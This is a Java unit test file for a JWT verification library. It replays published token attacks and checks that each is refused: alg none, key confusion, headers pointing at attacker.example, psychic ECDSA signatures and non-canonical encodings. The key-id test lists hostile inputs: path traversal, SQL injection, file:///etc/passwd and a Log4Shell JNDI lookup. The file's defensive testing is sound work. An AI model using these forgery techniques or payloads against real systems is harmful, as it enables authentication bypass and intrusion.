package dev.postern.token;

import static dev.postern.token.TokenFixture.NOW;
import static dev.postern.token.TokenFixture.input;
import static dev.postern.token.TokenFixture.part;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.postern.json.Json;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Published attacks on header, key and signature; none gets further than a refusal. */
class JwtAttackTest {

  private final TokenFixture tokens = TokenFixture.signing(JwsAlgorithm.ES256);

  @Test
  void unsignedTokensAreRefused() throws Exception {
    // T4, BCP-1: the attacker writes alg none in some case, drops the signature, and hopes the
    // library believes the header (CVE-2015-9235, CVE-2020-28042).
    for (String alg : List.of("none", "None", "nOnE", "NONE", "", "es256", "ES256 ")) {
      Map<String, Object> header = tokens.header();
      header.put("alg", alg);
      String input = input(Json.write(header), Json.write(tokens.claims()));

      refused(input + ".");
      refused(input + "." + part(tokens.token(), 2));
      refused(input);
    }
  }

  @Test
  void anAlgorithmThatIsNoStringIsRefused() throws Exception {
    // BCP-1: the attacker leaves alg out, or makes it an array or null, to reach a default branch.
    Map<String, Object> without = tokens.header();
    without.remove("alg");
    refused(tokens.sign(without, tokens.claims()), JwtProblem.MALFORMED);
    for (Object alg : List.of(List.of("ES256"), 1L, true, Map.of("a", "ES256"))) {
      Map<String, Object> header = tokens.header();
      header.put("alg", alg);
      refused(tokens.sign(header, tokens.claims()), JwtProblem.MALFORMED);
    }
  }

  @Test
  void aPublicKeyIsNoHmacSecret() throws Exception {
    // T4, BCP-2: the attacker signs with HS256, the published RSA key as the secret
    // (CVE-2016-5431).
    for (JwsAlgorithm algorithm : List.of(JwsAlgorithm.RS256, JwsAlgorithm.ES256)) {
      TokenFixture fixture = TokenFixture.signing(algorithm);
      Map<String, Object> header = fixture.header();
      header.put("alg", "HS256");
      String input = input(Json.write(header), Json.write(fixture.claims()));
      byte[] publicKey = fixture.ring.signingKey(NOW).verifying().getEncoded();

      String forged = input + "." + Base64Url.encode(TokenFixture.hmac(publicKey, input));

      assertThat(fixture.verify(forged))
          .isEqualTo(new JwtResult.Refused(JwtProblem.WRONG_ALGORITHM));
    }
  }

  @Test
  void aKeyServesOneAlgorithm() throws Exception {
    // BCP-2: the attacker asks for another algorithm of the same key type.
    TokenFixture fixture = TokenFixture.signing(JwsAlgorithm.PS256);
    for (String alg : List.of("RS256", "PS384", "RS512")) {
      Map<String, Object> header = fixture.header();
      header.put("alg", alg);
      String token = fixture.token();

      assertThat(
              fixture.verify(
                  input(Json.write(header), Json.write(fixture.claims())) + "." + part(token, 2)))
          .isEqualTo(new JwtResult.Refused(JwtProblem.WRONG_ALGORITHM));
    }
  }

  @Test
  void keysInHeadersAreNeverUsed() throws Exception {
    // T4, BCP-11: the attacker brings his own key, or an address to fetch it from, in the header
    // (CVE-2018-0114). Not even our own signature makes such a header acceptable.
    TokenFixture attacker = TokenFixture.signing(JwsAlgorithm.ES256);
    Object jwk = attacker.ring.signingKey(NOW).publicMembers();
    Map<String, Object> tricks =
        Map.of(
            "jwk", jwk,
            "jku", "https://attacker.example/jwks.json",
            "x5u", "https://attacker.example/cert.pem",
            "x5c", List.of("MIIB"),
            "x5t", "AAAA",
            "zip", "DEF",
            "url", "https://attacker.example");
    for (Map.Entry<String, Object> trick : tricks.entrySet()) {
      Map<String, Object> header = attacker.header();
      header.put(trick.getKey(), trick.getValue());
      refused(attacker.sign(header, tokens.claims()), JwtProblem.MALFORMED);
      header.put("kid", tokens.ring.signingKey(NOW).id());
      refused(attacker.sign(header, tokens.claims()), JwtProblem.MALFORMED);
      refused(tokens.sign(header, tokens.claims()), JwtProblem.MALFORMED);
    }
  }

  @Test
  void keyIdsAreNeitherPathsNorQueries() throws Exception {
    // T4, BCP-11: the attacker makes kid a path to a known file, or SQL that returns his key.
    List<String> ids =
        List.of(
            "../../../../dev/null",
            "/dev/null",
            "x' UNION SELECT 'key'; --",
            "key\u0000.jwk",
            "file:///etc/passwd",
            "${jndi:ldap://attacker.example}",
            "",
            "a".repeat(129));
    for (String id : ids) {
      Map<String, Object> header = tokens.header();
      header.put("kid", id);
      refused(tokens.sign(header, tokens.claims()));
    }
    Map<String, Object> header = tokens.header();
    header.remove("kid");
    refused(tokens.sign(header, tokens.claims()), JwtProblem.MALFORMED);
    header.put("kid", TokenFixture.signing(JwsAlgorithm.ES256).ring.signingKey(NOW).id());
    refused(tokens.sign(header, tokens.claims()), JwtProblem.UNKNOWN_KEY);
  }

  @Test
  void criticalExtensionsAndUnencodedPayloadsAreRefused() throws Exception {
    // JWT-7, JWT-8: the attacker uses crit and b64 (RFC 7797) to have other bytes signed than read.
    for (Object crit : List.of(List.of(), List.of("b64"), List.of("exp", "exp"), "b64")) {
      Map<String, Object> header = tokens.header();
      header.put("crit", crit);
      header.put("b64", false);
      refused(tokens.sign(header, tokens.claims()), JwtProblem.MALFORMED);
    }
    Map<String, Object> header = tokens.header();
    header.put("b64", false);
    refused(tokens.sign(header, tokens.claims()), JwtProblem.MALFORMED);
  }

  @Test
  void emptyAndForeignSignaturesAreRefused() throws Exception {
    // T4: the attacker leaves the signature out, or takes that of another token.
    String token = tokens.token();
    String unsigned = part(token, 0) + "." + part(token, 1);
    refused(unsigned + ".", JwtProblem.FORGED);
    refused(unsigned + "." + part(tokens.token(), 2), JwtProblem.FORGED);
    refused(unsigned);
    refused(unsigned + "..");
    refused("..");
    refused("");
  }

  @Test
  void otherSerialisationsAreRefused() {
    // T4, BCP-14: the attacker sends the JSON form of RFC 7515 section 7.2, which some libraries
    // verify in one branch and read in another.
    String token = tokens.token();
    String json =
        "{\"payload\":\"%s\",\"protected\":\"%s\",\"signature\":\"%s\"}"
            .formatted(part(token, 1), part(token, 0), part(token, 2));
    refused(json, JwtProblem.MALFORMED);
    refused("{}", JwtProblem.MALFORMED);
    refused(Base64Url.encode(json.getBytes(UTF_8)), JwtProblem.MALFORMED);
  }

  @Test
  void psychicSignaturesAreRefused() {
    // JWT-9: the attacker signs with r = s = 0, or with values beyond the order (CVE-2022-21449).
    String token = tokens.token();
    String unsigned = part(token, 0) + "." + part(token, 1) + ".";
    byte[] order = new byte[64];
    byte[] n = P256.ORDER.toByteArray();
    System.arraycopy(n, 1, order, 0, 32);
    System.arraycopy(n, 1, order, 32, 32);
    byte[] onlyR = new byte[64];
    onlyR[31] = 1;
    for (byte[] signature : List.of(new byte[64], order, onlyR, new byte[63], new byte[65])) {
      refused(unsigned + Base64Url.encode(signature), JwtProblem.FORGED);
    }
  }

  @Test
  void theTwinSignatureIsRefused() {
    // JWT-9, DESIGN 7.4: the attacker turns s into n - s, which verifies as well, to get around a
    // denylist of token texts.
    String token = tokens.token();
    byte[] signature = Base64Url.decode(part(token, 2)).orElseThrow();

    refused(
        part(token, 0)
            + "."
            + part(token, 1)
            + "."
            + Base64Url.encode(EcdsaSignature.twin(signature)),
        JwtProblem.FORGED);
  }

  @Test
  void otherSpellingsOfAGoodTokenAreRefused() {
    // JWT-6: the attacker adds padding, white space, or bits behind the last byte, so that one
    // token
    // has many texts.
    String token = tokens.token();
    List<String> spellings =
        List.of(
            token + "=",
            token + "==",
            token + "\n",
            " " + token,
            token + " ",
            token + "\u0000",
            token.replace(".", ".\n"),
            token.replaceFirst("\\.", "=."),
            token.replaceFirst("\\.", ".."),
            "." + token,
            token + ".",
            token.substring(0, 10) + "\r\n " + token.substring(10),
            token.substring(0, 10) + "%41" + token.substring(11),
            token + "é");
    spellings.forEach(spelling -> refused(spelling, JwtProblem.MALFORMED));
    // 64 bytes leave four unused bits in the last character.
    String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    int last = alphabet.indexOf(token.charAt(token.length() - 1));
    for (int bits = 1; bits < 16; bits++) {
      refused(
          token.substring(0, token.length() - 1) + alphabet.charAt(last | bits),
          JwtProblem.MALFORMED);
    }
  }

  private void refused(String token) {
    assertThat(tokens.verify(token)).isInstanceOf(JwtResult.Refused.class);
  }

  private void refused(String token, JwtProblem problem) {
    assertThat(tokens.verify(token)).isEqualTo(new JwtResult.Refused(problem));
  }
}
